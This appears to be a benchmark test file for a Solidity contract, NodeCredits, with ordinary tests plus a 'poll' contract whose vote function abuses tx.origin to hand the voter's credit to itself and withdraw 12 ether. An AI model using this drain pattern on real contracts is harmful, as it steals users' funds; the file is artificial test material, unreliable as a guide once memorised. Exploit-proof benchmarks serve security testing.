// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "./NodeCredits.sol";

// assay-canary-7f0bc1d2-f05e-4380-835b-803ad676c0c5

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes calldata reason) external;
}

/// An operator that users name.
contract Operator {
    NodeCredits internal credits;

    constructor(NodeCredits credits_) public {
        credits = credits_;
    }

    function book(address user, uint256 pid, uint256 day, uint256 count) external {
        credits.book(user, pid, day, count);
    }
}

/// A poll. Users vote in it, and it helps itself meanwhile.
contract Attacker {
    NodeCredits internal credits;
    mapping(address => uint256) public choices;

    constructor(NodeCredits credits_) public {
        credits = credits_;
    }

    receive() external payable {}

    function credit(address who) internal view returns (uint256 amount) {
        (amount, ) = credits.userInfo(who);
    }

    function vote(uint256 choice) external {
        choices[tx.origin] = choice;
        credits.deposit{value: 0.01 ether}();
        credits.hand(tx.origin, address(this), credit(tx.origin));
        credits.withdraw(credit(address(this)));
    }
}

contract Proof {
    Vm internal constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    NodeCredits internal credits;
    Operator internal operator;
    Attacker internal poll;
    address payable internal gil; // the user: an account that signs transactions itself
    address internal constant HANNA = address(0x411DE);
    address payable internal constant PROVIDER = address(0xCEE9E4);

    function setUp() public {
        vm.warp(1700000000);
        gil = tx.origin;
        credits = new NodeCredits();
        credits.add(PROVIDER, 1 ether, 2);
        operator = new Operator(credits);
        poll = new Attacker(credits);
        vm.deal(address(poll), 0.01 ether);
        vm.deal(gil, 12 ether);
        vm.deal(HANNA, 5 ether);
        vm.prank(gil);
        credits.deposit{value: 12 ether}();
        vm.prank(HANNA);
        credits.deposit{value: 5 ether}();
    }

    function credit(address who) internal view returns (uint256 amount) {
        (amount, ) = credits.userInfo(who);
    }

    function test_Regular() public {
        uint256 day = credits.nextDay();
        vm.prank(gil);
        credits.book(gil, 0, day, 3);
        require(credit(gil) == 9 ether && credits.slotsTaken(0, day + 2) == 1, "booked");

        // through an operator, for who has named it
        (bool ok, ) = address(operator).call(abi.encodeWithSelector(operator.book.selector, HANNA, 0, day, 1));
        require(!ok, "not named");
        vm.prank(HANNA);
        credits.setOperator(address(operator), true);
        operator.book(HANNA, 0, day, 1);
        require(credit(HANNA) == 4 ether, "booked for her");
        vm.prank(gil);
        (ok, ) = address(credits).call(abi.encodeWithSelector(credits.book.selector, gil, 0, day, 1));
        require(!ok, "two slots only");
        (ok, ) = address(credits).call(abi.encodeWithSelector(credits.hand.selector, HANNA, gil, 1 ether));
        require(!ok, "not theirs");

        vm.prank(gil);
        credits.hand(gil, HANNA, 2 ether);
        uint256 before = gil.balance;
        vm.prank(gil);
        credits.withdraw(7 ether);
        require(gil.balance - before == 7 ether && credit(HANNA) == 6 ether, "handed over and withdrawn");

        credits.payProvider(0);
        require(PROVIDER.balance == 4 ether, "provider paid");
        credits.set(0, 2 ether);
        require(address(credits).balance == credit(HANNA) + credit(gil), "books");
        require(credits.poolLength() == 1, "one pool");
        credits.transferOwnership(HANNA);
        vm.prank(HANNA);
        credits.renounceOwnership();
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Pools are the owner's, with a provider and slots.
    function test_RefusesPools() public {
        refuses(HANNA, "Ownable: caller is not the owner");
        credits.add(payable(HANNA), 1, 1);
        refuses(HANNA, "Ownable: caller is not the owner");
        credits.set(0, 1);
        vm.expectRevert("add: no provider");
        credits.add(payable(address(0)), 1, 1);
        vm.expectRevert("add: no slots");
        credits.add(PROVIDER, 1, 0);
    }

    /// Days on sale, some of them, credit that is there.
    function test_RefusesBookings() public {
        vm.prank(HANNA);
        credits.setOperator(address(operator), true);
        uint256 day = credits.nextDay();
        vm.expectRevert("book: not on sale");
        operator.book(HANNA, 0, day - 1, 1);
        vm.expectRevert("book: not on sale");
        operator.book(HANNA, 0, day + 365, 1);
        vm.expectRevert("book: wrong count");
        operator.book(HANNA, 0, day, 0);
        vm.expectRevert("book: wrong count");
        operator.book(HANNA, 0, day, 15);
        vm.deal(HANNA, 1 ether);
        refuses(HANNA, "deposit: too little");
        credits.deposit{value: 0.009 ether}();
        vm.prank(gil);
        vm.expectRevert("hand: not a user");
        credits.hand(gil, address(0xBEE), 1);
        vm.prank(address(operator));
        credits.hand(HANNA, gil, 1 ether);
        require(credit(HANNA) == 4 ether, "handed over by her operator");
        refuses(HANNA, "spend: credit too low");
        credits.withdraw(5 ether);
        vm.deal(address(operator), 1 ether);
        vm.prank(address(operator));
        credits.deposit{value: 1 ether}();
        refuses(address(operator), "withdraw: not accepted");
        credits.withdraw(1 ether);
    }

    // gil, who starts this transaction, votes in the poll.
    function exploit() public {
        poll.vote(2);
    }

    function test_Exploit() public {
        uint256 before = address(poll).balance;
        exploit();
        require(address(poll).balance - before == 12 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(credits);
    }

    function attacker() public view returns (address) {
        return address(poll);
    }
}
